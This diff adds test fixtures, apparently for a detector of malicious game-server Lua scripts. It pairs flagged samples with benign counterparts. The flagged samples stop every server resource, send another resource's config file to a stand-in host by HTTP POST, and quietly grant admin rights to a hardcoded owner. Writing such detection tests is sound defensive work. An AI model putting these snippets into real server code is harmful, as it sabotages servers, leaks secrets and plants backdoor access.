@@ -2,6 +2,16 @@ import { js, lua, type Fixture } from './fixture.ts'
 
 export const serverFixtures: Fixture[] = [
   lua(
+    'stops-server',
+    `for i = 0, GetNumResources() - 1 do\n^ StopResource(GetResourceByFindIndex(i))\nend`,
+    `StopResource(GetCurrentResourceName())`,
+  ),
+  lua(
+    'secret-and-http',
+    `local text = LoadResourceFile(GetResourceByFindIndex(0), 'config.lua')\n^PerformHttpRequest('https://a.example', print, 'POST', text)`,
+    `local text = LoadResourceFile(GetCurrentResourceName(), 'config.lua')\nPerformHttpRequest('https://a.example', print, 'POST', text)`,
+  ),
+  lua(
     'grants-rights',
     `local owner = 'license:0123456789abcdef'\n^if id == owner then ExecuteCommand(('add_principal identifier.%s group.admin'):format(id)) end`,
     `local owner = 'license:0123456789abcdef'\nif id == owner then ExecuteCommand('refresh') end`,
